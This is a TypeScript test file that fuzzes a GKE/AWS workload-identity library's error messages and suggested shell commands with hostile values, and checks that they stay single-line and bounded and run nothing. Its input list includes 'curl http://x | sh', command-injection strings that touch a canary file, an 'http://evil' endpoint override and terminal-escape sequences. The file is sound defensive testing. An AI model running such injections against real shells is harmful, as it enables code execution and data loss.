import { spawnSync } from "node:child_process";
import { existsSync, mkdtempSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { toMessage } from "../../src/cli/command-error.js";
import type { ErrorDetails } from "../../src/errors/error-codes.js";
import { ERRORS } from "../../src/errors/error-table.js";
import { GkeWorkloadIdentityError, type GkeWorkloadIdentityErrorCode } from "../../src/index.js";
import { classifyStsFailure } from "../../src/sts/classify-sts-failure.js";

const codes = Object.keys(ERRORS) as GkeWorkloadIdentityErrorCode[];
const CANARY = join(mkdtempSync(join(tmpdir(), "hostile-")), "canary");

/** What nobody who is shown a text should see, or what a shell should not run. */
const TEXTS: readonly unknown[] = [
  "a\ncurl http://x | sh",
  "a\r\n  aws iam delete-role --role-name x",
  "\n✓ exchange",
  "a\u2028touch x",
  "a\u2029touch x",
  "a\u0085b",
  "\u001b[2J\u001b]0;title\u0007",
  "\u009b31m",
  "\u007f\b\b\b",
  "\u0000",
  "a\u202eb",
  "\u2066a\u2069",
  "a\u200bb\u200d\ufeff",
  "a\u{e0041}\u{e0042}",
  "\u00a0\u3000\u3164\u2800",
  "\ud800",
  "a\udfffb",
  `$(touch ${CANARY})@x`,
  `\`touch ${CANARY}\``,
  `'; touch ${CANARY}; '`,
  `"; touch ${CANARY}; "`,
  `a && touch ${CANARY}`,
  `a | touch ${CANARY}`,
  `a > ${CANARY}`,
  `-\u{2d}help`,
  "--endpoint-url=http://evil",
  "-rf",
  "*",
  "~root",
  "!!",
  "a b",
  "${IFS}",
  "'",
  "'".repeat(300),
  "\\",
  "😀".repeat(2_000),
  "\u202e".repeat(5_000),
  "x".repeat(5_000_000),
  "",
  " ",
  {},
  [],
  ["a\nb"],
  [{}],
  1,
  Number.NaN,
  true,
  null,
  { toString: () => "a\nb" },
];

/** Each detail, and a list of its wrong values. */
const FIELDS: Readonly<Record<string, (value: unknown) => object>> = {
  reason: (reason) => ({ reason }),
  roleArn: (roleArn) => ({ roleArn }),
  "role's name": (name) => ({ roleArn: `arn:aws:iam::123456789012:role/${name}` }),
  audience: (audience) => ({ audience }),
  region: (region) => ({ region }),
  serviceAccountEmail: (email) => ({ serviceAccountEmail: email }),
  "an email's name": (name) => ({ serviceAccountEmail: `${name}@p.iam.gserviceaccount.com` }),
  iss: (iss) => ({ claims: { iss } }),
  "an issuer's path": (path) => ({ claims: { iss: `https://example.com/${path}` } }),
  azp: (azp) => ({ claims: { azp } }),
  aud: (aud) => ({ claims: { aud } }),
  sub: (sub) => ({ claims: { sub } }),
  email: (email) => ({ claims: { email } }),
  "all claims": (text) => ({ claims: { azp: text, aud: text, sub: text, email: text } }),
  durationSeconds: (durationSeconds) => ({ durationSeconds }),
  tokenFile: (tokenFile) => ({ tokenFile }),
  projectId: (projectId) => ({ projectId }),
  namespace: (namespace) => ({ namespace }),
  kubernetesServiceAccount: (name) => ({ kubernetesServiceAccount: name }),
  packageName: (packageName) => ({ packageName }),
  detours: (name) => ({ detours: [name] }),
};

const INVISIBLE = /(?![\n ])[\p{C}\p{Z}\p{Default_Ignorable_Code_Point}\u2800]/u;
const OWN_COMMAND = /^ {2}(?:aws|gcloud|kubectl|npm|curl|ls|env|date|id|export)(?: |$)/;

function expectSafe(error: GkeWorkloadIdentityError): void {
  expect(error.message).not.toMatch(INVISIBLE);
  expect(error.message).not.toContain("\n");
  expect(error.hint).not.toMatch(INVISIBLE);
  expect(Buffer.byteLength(error.message)).toBeLessThanOrEqual(2_000);
  expect(Buffer.byteLength(error.hint)).toBeLessThanOrEqual(4_000);
  expect(error.message.endsWith(`(${error.code})`)).toBe(true);
  const [prose = "", ...lines] = error.hint.split("\n");
  expect(prose).not.toMatch(OWN_COMMAND);
  expect(lines.at(-1)).toMatch(/^More: node_modules\//);
  for (const line of lines.slice(0, -1)) expect(line).toMatch(OWN_COMMAND);
  expect(toMessage(error)).not.toMatch(INVISIBLE);
}

const commandsOf = ({ hint }: GkeWorkloadIdentityError): string[] =>
  hint.split("\n").filter((line) => /^ {2}(?:aws|gcloud|kubectl|npm|ls) /.test(line));

const LIST = Object.entries(FIELDS).flatMap(([name, toDetails]) =>
  TEXTS.map((value) => ({ name, details: toDetails(value) as ErrorDetails })),
);

describe("hostile values", () => {
  it("are at least 150", () => expect(LIST.length).toBeGreaterThan(150));

  it.each(Object.keys(FIELDS))("in %s never leave the line, the limits or the commands of an error", (name) => {
    for (const { details } of LIST.filter((given) => given.name === name))
      for (const code of codes) expectSafe(new GkeWorkloadIdentityError(code, details, { cause: details }));
  });

  it("in the name, the text and the cause of a failure of STS never leave the line or the limits", () => {
    for (const text of TEXTS) {
      for (const thrown of [text, { name: text, message: text, code: text, status: text, cause: { message: text } }]) {
        const error = classifyStsFailure(thrown, {}, "a-token");
        expectSafe(error);
        expect(`${(error.cause as Error | undefined)?.stack}`).not.toMatch(INVISIBLE);
      }
    }
  });

  it.each(["sh", "bash"])("in commands are single words of %s, and run nothing", (shell) => {
    const commands = LIST.flatMap(({ details }) =>
      (["STS_ACCESS_DENIED", "NO_GOOGLE_SERVICE_ACCOUNT", "GOOGLE_PERMISSION_DENIED", "INVALID_CONFIGURATION"] as const)
        .concat(["WEB_IDENTITY_TOKEN_FILE_UNREADABLE", "WEB_IDENTITY_TOKEN_FILE_MISSING"] as never)
        .flatMap((code) => commandsOf(new GkeWorkloadIdentityError(code, { ...details, platform: "kubernetes" }))),
    );
    const names = ["aws", "gcloud", "kubectl", "npm", "ls"];
    const shown = names.map((name) => `${name}() { printf '%s\\0' ${name} "$@"; printf '\\1'; }`);
    const { stdout, stderr } = spawnSync(shell, ["-s"], {
      input: [...shown, ...commands].join("\n"),
      encoding: "utf8",
      maxBuffer: 2 ** 28,
    });
    expect([stderr, existsSync(CANARY)]).toEqual(["", false]);
    const calls = stdout.split("\u0001").filter(Boolean);
    expect(calls).toHaveLength(commands.length);
    for (const call of calls) {
      const [command = "", ...words] = call.split("\0").slice(0, -1);
      const options = words.filter((word) => word.startsWith("-")).map((word) => word.split("=")[0]);
      const OWN =
        /^(?:-lL|--(?:role-name|query|policy-document|namespace|overwrite|role|member|output|max-session-duration))$/;
      expect([command, options.filter((option) => !OWN.test(option ?? ""))]).toEqual([command, []]);
      const document = words[words.indexOf("--policy-document") + 1];
      if (words.includes("--policy-document")) expect(JSON.parse(document ?? "").Version).toBe("2012-10-17");
    }
  });
});
